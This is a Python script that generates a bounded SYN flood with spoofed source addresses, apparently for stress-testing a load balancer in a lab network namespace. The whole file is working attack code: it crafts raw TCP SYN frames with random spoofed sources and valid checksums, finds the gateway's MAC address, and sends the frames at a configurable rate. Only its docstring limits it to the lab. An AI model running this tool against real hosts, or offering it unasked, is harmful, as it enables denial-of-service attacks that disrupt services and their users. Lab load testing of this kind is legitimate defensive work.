#!/usr/bin/env python3
"""Send a bounded burst of TCP SYNs from spoofed sources (stdlib only), for the lab.

usage: syn_flood.py --iface IFACE --dst ADDR --dport PORT --src-net CIDR
                    --count N --seconds T [--pps R] [--exclude CIDR]... [--dst-mac MAC]
                    [--seed S]

Builds N Ethernet/IPv4/TCP SYN frames (random source address in --src-net, minus every
--exclude, random source port and sequence number, correct IP and TCP checksums) before
the clock starts, then writes them to IFACE through an AF_PACKET socket, addressed to
--dst-mac (default: the MAC of IFACE's default gateway, from /proc/net/route and
/proc/net/arp). At most R frames per second when --pps is given (paced every 64 frames;
a slow machine may send fewer). Stops after N frames or T seconds, whichever comes
first, and prints

    sent=S errors=X seconds=E rate=R/s flows=F   (F: distinct source address/port pairs)

Meant for a lab namespace only (root, inside `nsenter --net`): the sources are spoofed,
so nothing ever answers them.
"""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def parse_mac(text: str) -> bytes:
    parts = text.strip().split(":")
    if len(parts) != 6:
        raise ValueError("not a MAC address: %r" % text)
    return bytes(int(p, 16) for p in parts)


def gateway_mac(iface: str) -> bytes:
    """The neighbour entry of IFACE's default gateway (this namespace's /proc/net)."""
    gw = None
    with open("/proc/net/route") as f:
        next(f)
        for line in f:
            fields = line.split()
            if fields[0] == iface and fields[1] == "00000000":
                gw = socket.inet_ntoa(struct.pack("<I", int(fields[2], 16)))
                break
    if gw is None:
        raise RuntimeError("no default route on %s" % iface)
    with open("/proc/net/arp") as f:
        next(f)
        for line in f:
            fields = line.split()
            if fields[0] == gw and fields[5] == iface and int(fields[2], 16) & 0x2:
                return parse_mac(fields[3])
    raise RuntimeError("gateway %s has no ARP entry on %s: pass --dst-mac" % (gw, iface))


def source_pool(src_net: str, excludes):
    net = ipaddress.IPv4Network(src_net)
    skip = [ipaddress.IPv4Network(e) for e in excludes]
    first, last = int(net.network_address) + 1, int(net.broadcast_address) - 1
    if first > last:
        raise ValueError("--src-net %s has no host addresses" % src_net)

    def pick(rng):
        while True:
            a = ipaddress.IPv4Address(rng.randint(first, last))
            if not any(a in s for s in skip):
                return a.packed
    return pick


def build_frames(args, src_mac: bytes, dst_mac: bytes):
    rng = random.Random(args.seed)
    pick = source_pool(args.src_net, args.exclude)
    dst = socket.inet_aton(args.dst)
    eth = dst_mac + src_mac + struct.pack("!H", ETH_P_IP)
    frames, flows = [], []
    for _ in range(args.count):
        src = pick(rng)
        sport = rng.randint(1024, 65535)
        seq = rng.getrandbits(32)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, rng.getrandbits(16), 0x4000, 64,
                         socket.IPPROTO_TCP, 0, src, dst)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        # data offset 5 words, flags SYN, window 64240
        tcp = struct.pack("!HHIIBBHHH", sport, args.dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
        pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        frames.append(eth + ip + tcp)
        flows.append((src, sport))
    return frames, flows


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--iface", required=True)
    p.add_argument("--dst", required=True, help="destination IPv4 address (the VIP)")
    p.add_argument("--dport", type=int, required=True)
    p.add_argument("--src-net", required=True, help="spoofed sources are drawn from here")
    p.add_argument("--exclude", action="append", default=[], help="never use these sources")
    p.add_argument("--count", type=int, required=True, help="at most this many SYNs")
    p.add_argument("--seconds", type=float, required=True, help="at most this long")
    p.add_argument("--pps", type=float, default=0, help="at most this many per second (0: no pacing)")
    p.add_argument("--dst-mac", help="next hop MAC (default: the default gateway's)")
    p.add_argument("--seed", type=int, default=None)
    args = p.parse_args()
    if args.count <= 0 or args.seconds <= 0:
        p.error("--count and --seconds must be positive")

    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    s.bind((args.iface, 0))
    src_mac = s.getsockname()[4]
    dst_mac = parse_mac(args.dst_mac) if args.dst_mac else gateway_mac(args.iface)
    frames, flows = build_frames(args, src_mac, dst_mac)

    sent = errors = 0
    start = time.monotonic()
    deadline = start + args.seconds
    for i, frame in enumerate(frames):
        if i % 64 == 0:
            now = time.monotonic()
            if now >= deadline:
                break
            if args.pps > 0:
                ahead = start + i / args.pps - now
                if ahead > 0:
                    time.sleep(min(ahead, deadline - now))
                    if time.monotonic() >= deadline:
                        break
        try:
            s.send(frame)
            sent += 1
        except OSError:  # ENOBUFS and the like: count it, go on
            errors += 1
    elapsed = max(time.monotonic() - start, 1e-6)
    s.close()
    print("sent=%d errors=%d seconds=%.2f rate=%d/s flows=%d" %
          (sent, errors, elapsed, sent / elapsed, len(set(flows[:sent]))), flush=True)
    return 0 if sent > 0 else 1


if __name__ == "__main__":
    sys.exit(main())
